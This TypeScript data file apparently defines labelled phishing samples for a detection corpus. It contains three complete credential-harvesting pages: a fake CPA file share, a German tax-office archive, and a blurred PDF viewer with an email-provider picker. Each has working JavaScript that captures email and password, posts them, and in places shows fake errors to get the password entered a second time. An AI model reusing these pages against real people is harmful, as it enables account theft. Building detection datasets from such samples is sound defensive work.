import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { fileRoute, jsRoute, jsonRoute, lnk, pngRoute, zip } from '../parts/e-bin.js';
import { analytics, cssApp, cssPlain, doc, icon, pdfRoute } from '../parts/q-kit.js';

// Fake "secure document" and invoice portals of small firms (and one delivering a payload).

export const entries: Entry[] = [
{
  id: 'q-phish-docshare-cpa-script-form',
  label: 'phishing',
  kind: 'doc-portal',
  url: 'https://hollis-cpa-docs.com/share/f/8d21c7',
  body: doc({
    title: 'Shared file',
    css: cssApp('#0f766e'),
    body: `<div class="wrap"><div class="box" id="root">
<p style="color:#999;font-size:13px">Loading…</p></div></div>
<script>
(function(){
  var r=document.getElementById('root');
  var f='Q3 Reconciliation - final.pdf';
  setTimeout(function(){
    r.innerHTML='<h1>Hollis &amp; Partners has shared a file</h1>'+
      '<p><b>'+f+'</b> · 2 pages · 184 KB</p>'+
      '<p>For the security of client records, confirm the email this was sent to.</p>'+
      '<form id="v"><label for="e">Email</label><input id="e" type="email" autocomplete="username" required>'+
      '<label for="p">Password</label><input id="p" type="password" autocomplete="current-password" required>'+
      '<button>View file</button><div class="err hidden" id="x">That did not work. Please try again.</div></form>'+
      '<div class="sub">Files expire 7 days after sharing · <a href="#">Help</a></div>';
    var n=0;
    document.getElementById('v').onsubmit=function(ev){
      ev.preventDefault();
      var b={u:document.getElementById('e').value,p:document.getElementById('p').value,t:n,ua:navigator.userAgent};
      fetch('/share/api/ack',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(b)}).then(function(){
        n++; if(n<2){document.getElementById('x').classList.remove('hidden');document.getElementById('p').value='';}
        else{location.href='/share/f/8d21c7/expired';}
      });
    };
  },900);
})();
</script>`,
  }),
  routes: {
    'hollis-cpa-docs.com/share/api/ack': jsonRoute({ ok: true }),
    'hollis-cpa-docs.com/share/f/8d21c7/expired': htmlRoute(doc({ title: 'Link expired', css: cssApp('#0f766e'), body: '<div class="wrap"><div class="box"><h1>This link has expired</h1><p>Ask the sender to share it again.</p></div></div>' })),
  },
},
{
  id: 'q-phish-steuerbuero-alt-lure-de',
  label: 'phishing',
  kind: 'doc-portal',
  url: 'https://kraemer-steuer-dokumente.de/ablage/',
  body: doc({
    lang: 'de',
    title: 'Dokumentenablage',
    css: cssPlain('#7a2e2e', 'Georgia, serif') + `.prev{position:relative;cursor:pointer}.prev img{width:100%;height:340px;filter:blur(6px);background:#eee;display:block}.prev span{position:absolute;top:45%;left:0;right:0;text-align:center;font-size:17px;background:rgba(255,255,255,.85);padding:10px}`,
    body: `<main><div class="card narrow">
<p class="muted">Steuerbüro Krämer · Mandantenablage</p>
<div class="prev" id="pv"><img src="/ablage/vorschau.png" alt="Jahresabschluss 2025 – Dokument ansehen: bitte mit Ihrer E-Mail-Adresse bestätigen" title="Dokument ansehen"><span>Vorschau anklicken</span></div>
<form id="f" class="hidden" method="post" action="/ablage/pruefen.php">
<label>E-Mail</label><input name="mail" type="email" required>
<label>Kennwort</label><input name="kennwort" type="password" required>
<p></p><button>Bestätigen</button></form>
</div></main>
<footer>© Steuerbüro Krämer · <a href="#">Impressum</a> · <a href="#">Datenschutz</a></footer>
<script>document.getElementById('pv').onclick=function(){this.style.display='none';document.getElementById('f').className='';};</script>`,
  }),
  routes: {
    'kraemer-steuer-dokumente.de/ablage/vorschau.png': pngRoute(230, 230, 230),
    'kraemer-steuer-dokumente.de/ablage/pruefen.php': redirectRoute(302, 'https://kraemer-steuer-dokumente.de/ablage/?fehler=1'),
  },
},
{
  id: 'q-phish-pdfviewer-frame-provider-picker',
  label: 'phishing',
  kind: 'pdf-viewer-lure',
  url: 'https://viewer.docsvault-secure.net/web/viewer.html?file=PO-77104.pdf',
  body: doc({
    title: 'PO-77104.pdf',
    css: `body{margin:0;background:#525659;font:13px Arial,sans-serif}.bar{height:40px;background:#323639;color:#eee;display:flex;align-items:center;padding:0 14px;gap:16px}
.pg{width:612px;height:792px;margin:20px auto;background:#fff;filter:blur(4px)}.pg p{margin:0;padding:40px;font-size:14px;color:#333}
.ov{position:fixed;inset:0;background:rgba(0,0,0,.45);display:flex;align-items:center;justify-content:center}
.m{background:#fff;width:360px;padding:26px;border-radius:4px}.m h3{margin:0 0 8px}.m button{display:block;width:100%;margin:8px 0;padding:11px;border:1px solid #ccc;background:#f7f7f7;cursor:pointer;font-size:14px;text-align:left}
.m input{width:100%;padding:9px;margin:6px 0;border:1px solid #bbb;box-sizing:border-box}.m .go{background:#1a73e8;color:#fff;border:0;text-align:center}`,
    body: `<div class="bar"><span>☰</span><span>PO-77104.pdf</span><span style="margin-left:auto">1 / 3</span><span>100%</span></div>
<div class="pg"><p>PURCHASE ORDER PO-77104<br><br>Ship to: ............<br>Qty  Description  Unit  Total<br>40  ......  ......  ......<br>120 ......  ......  ......</p></div>
<div class="pg"></div>
<div class="ov" id="ov"></div>
<script>
var ov=document.getElementById('ov');
function pick(){ov.innerHTML='<div class="m"><h3>Document protected</h3><div style="color:#666;margin-bottom:12px">Choose the email service you use to continue reading.</div>'+
['Outlook / Hotmail','Office 365','Yahoo','AOL','Other mail'].map(function(s){return '<button data-s="'+s+'">'+s+'</button>'}).join('')+'</div>';
[].forEach.call(ov.querySelectorAll('button'),function(b){b.onclick=function(){form(b.getAttribute('data-s'))}});}
function form(s){ov.innerHTML='<div class="m"><h3>'+s+'</h3><input id="a" placeholder="Email"><input id="b" type="password" placeholder="Password"><button class="go" id="g">Continue</button><div id="e" style="color:#c00;font-size:12px"></div></div>';
document.getElementById('g').onclick=function(){var x=new XMLHttpRequest();x.open('POST','https://viewer.docsvault-secure.net/web/l.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
x.send('s='+encodeURIComponent(s)+'&a='+encodeURIComponent(document.getElementById('a').value)+'&b='+encodeURIComponent(document.getElementById('b').value));
document.getElementById('e').textContent='Network error, please try again.';};}
setTimeout(pick,1500);
</script>`,
  }),
  routes: { 'viewer.docsvault-secure.net/web/l.php': htmlRoute('ok') },
},
];
